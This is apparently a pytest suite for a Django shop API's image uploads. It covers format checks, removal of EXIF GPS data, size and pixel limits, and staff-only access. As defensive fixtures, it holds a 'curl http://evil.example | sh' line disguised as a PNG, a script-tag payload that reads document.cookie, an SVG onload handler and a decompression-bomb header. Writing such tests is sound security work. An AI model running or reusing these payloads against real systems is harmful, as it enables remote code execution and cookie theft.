"""Product and category images through HTTP: uploads, hostile files, the one-main rule, files on disk."""

import io

import pytest
from PIL import Image

from tests.factories import CategoryFactory, ProductFactory
from tests.image_files import GPS_LATITUDE, image_bytes, jpeg_with_gps, png_header, stored_files, upload

pytestmark = pytest.mark.django_db

IMAGE_FIELDS = {"id", "url", "thumbnail_url", "alt_text", "is_main", "position", "width", "height"}


def post_image(client, product, data: bytes | None = None, **fields):
    body = {"image": upload(data if data is not None else image_bytes()), **fields}
    return client.post(f"/api/products/{product.pk}/images/", body, format="multipart")


def stored(media_root, url: str) -> bytes:
    return (media_root / url.removeprefix("/media/")).read_bytes()


def assert_refused(response, status: int, media_root) -> None:
    assert response.status_code == status, response.content
    body = response.json()
    assert body["type"] in {"validation_error", "client_error"}
    assert set(body["errors"][0]) == {"code", "detail", "attr"}
    if status == 400:
        assert body["errors"][0]["attr"] == "image"
    assert stored_files(media_root) == []


# --- uploads ----------------------------------------------------------------------------------
def test_upload_stores_the_image_and_its_thumbnail(admin_client, media_root):
    product = ProductFactory()
    response = post_image(admin_client, product, image_bytes("PNG", (800, 600)), alt_text="Front")
    assert response.status_code == 201, response.content
    body = response.json()
    assert set(body) == IMAGE_FIELDS
    assert (body["width"], body["height"], body["alt_text"], body["is_main"]) == (800, 600, "Front", True)
    assert body["url"].startswith(f"/media/products/{product.pk}/")
    assert body["url"].endswith(".png")
    with Image.open(io.BytesIO(stored(media_root, body["thumbnail_url"]))) as thumb:
        assert thumb.format == "WEBP"
        assert max(thumb.size) == 320
    assert len(stored_files(media_root)) == 2


@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "WEBP"])
def test_upload_accepts_jpeg_png_and_webp_by_content_whatever_the_name(admin_client, media_root, fmt):
    response = admin_client.post(
        f"/api/products/{ProductFactory().pk}/images/",
        {"image": upload(image_bytes(fmt), name="no-extension", content_type="application/octet-stream")},
        format="multipart",
    )
    assert response.status_code == 201, response.content
    with Image.open(io.BytesIO(stored(media_root, response.json()["url"]))) as img:
        assert img.format == fmt


def test_upload_strips_exif_gps_and_applies_the_orientation(admin_client, media_root):
    original = jpeg_with_gps(size=(40, 20), orientation=6)
    with Image.open(io.BytesIO(original)) as img:  # the test file really carries the position
        assert img.getexif().get_ifd(0x8825)[2] == GPS_LATITUDE
    body = post_image(admin_client, ProductFactory(), original).json()
    assert (body["width"], body["height"]) == (20, 40)  # turned upright
    data = stored(media_root, body["url"])
    assert b"Exif" not in data
    with Image.open(io.BytesIO(data)) as img:
        assert dict(img.getexif()) == {}
        assert img.size == (20, 40)


def test_polyglot_jpeg_loses_its_payload(admin_client, media_root):
    payload = b"<script>alert(document.cookie)</script>"
    polyglot = image_bytes("JPEG", comment=payload) + payload  # in a COM segment and after the image
    response = post_image(admin_client, ProductFactory(), polyglot)
    assert response.status_code == 201
    for path in stored_files(media_root):
        assert payload not in path.read_bytes()


@pytest.mark.parametrize(
    ("data", "name", "content_type"),
    [
        (b"#!/bin/sh\ncurl http://evil.example | sh\n", "photo.png", "image/png"),  # a script named .png
        (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>', "logo.svg", "image/svg+xml"),
        (image_bytes("GIF"), "anim.gif", "image/gif"),  # a real image, of a format we do not take
        (image_bytes("JPEG")[:200], "cut.jpg", "image/jpeg"),  # truncated
    ],
    ids=["script-named-png", "svg", "gif", "truncated-jpeg"],
)
def test_hostile_or_unsupported_files_are_400_and_leave_nothing(admin_client, media_root, data, name, content_type):
    response = admin_client.post(
        f"/api/products/{ProductFactory().pk}/images/",
        {"image": upload(data, name, content_type)},
        format="multipart",
    )
    assert_refused(response, 400, media_root)
    assert response.json()["errors"][0]["code"] in {"unsupported_format", "corrupt"}


def test_decompression_bomb_header_is_a_cheap_400(admin_client, media_root):
    response = post_image(admin_client, ProductFactory(), png_header(50_000, 50_000))
    assert_refused(response, 400, media_root)
    assert response.json()["errors"][0]["code"] == "too_many_pixels"


def test_more_pixels_than_the_limit_is_400(admin_client, media_root, settings):
    settings.IMAGE_MAX_PIXELS = 100 * 100
    response = post_image(admin_client, ProductFactory(), image_bytes("PNG", (101, 100)))
    assert_refused(response, 400, media_root)
    assert response.json()["errors"][0]["code"] == "too_many_pixels"


def test_file_above_image_max_bytes_is_400(admin_client, media_root, settings):
    settings.IMAGE_MAX_BYTES = 500
    response = post_image(
        admin_client, ProductFactory(), image_bytes("PNG", (300, 300), color=(1, 2, 3, 4)) + b"\0" * 600
    )
    assert_refused(response, 400, media_root)
    assert response.json()["errors"][0]["code"] == "too_large"


def test_30_mb_body_is_413_before_anything_is_read(admin_client, media_root):
    response = post_image(admin_client, ProductFactory(), b"\xff\xd8" + b"\0" * (30 * 1024 * 1024))
    assert_refused(response, 413, media_root)
    assert response.json()["errors"][0]["code"] == "request_too_large"


def test_json_routes_keep_the_small_body_limit(admin_client, settings):
    response = admin_client.post(
        "/api/categories/", {"name": "x" * (settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 1)}, format="json"
    )
    assert response.status_code == 413


def test_upload_needs_staff(customer_client, api_client, media_root):
    product = ProductFactory()
    assert post_image(customer_client, product).status_code == 403
    assert post_image(api_client, product).status_code == 401
    assert stored_files(media_root) == []


def test_upload_without_a_file_is_400_naming_image(admin_client, media_root):
    response = admin_client.post(f"/api/products/{ProductFactory().pk}/images/", {"alt_text": "x"}, format="multipart")
    assert response.status_code == 400
    assert response.json()["errors"][0]["attr"] == "image"


def test_upload_to_a_missing_product_is_404_and_leaves_nothing(admin_client, media_root):
    response = admin_client.post("/api/products/999999/images/", {"image": upload(image_bytes())}, format="multipart")
    assert response.status_code == 404
    assert stored_files(media_root) == []


# --- category image ------------------------------------------------------------------------------
def test_category_image_put_replaces_the_old_file(
    admin_client, api_client, media_root, django_capture_on_commit_callbacks
):
    category = CategoryFactory()
    path = f"/api/categories/{category.pk}/image/"
    first = admin_client.put(path, {"image": upload(image_bytes())}, format="multipart").json()["image_url"]
    with django_capture_on_commit_callbacks(execute=True):
        response = admin_client.put(path, {"image": upload(image_bytes("WEBP"))}, format="multipart")
    assert response.status_code == 200
    second = response.json()["image_url"]
    assert second.endswith(".webp")
    assert [p.name for p in stored_files(media_root)] == [second.rsplit("/", 1)[1]]
    assert first != second
    assert api_client.get(f"/api/categories/{category.pk}/").json()["image_url"] == second


def test_category_image_refuses_svg_and_needs_staff(admin_client, customer_client, media_root):
    path = f"/api/categories/{CategoryFactory().pk}/image/"
    svg = upload(b"<svg xmlns='http://www.w3.org/2000/svg'/>", "a.svg", "image/svg+xml")
    assert_refused(admin_client.put(path, {"image": svg}, format="multipart"), 400, media_root)
    assert customer_client.put(path, {"image": upload(image_bytes())}, format="multipart").status_code == 403
    assert stored_files(media_root) == []
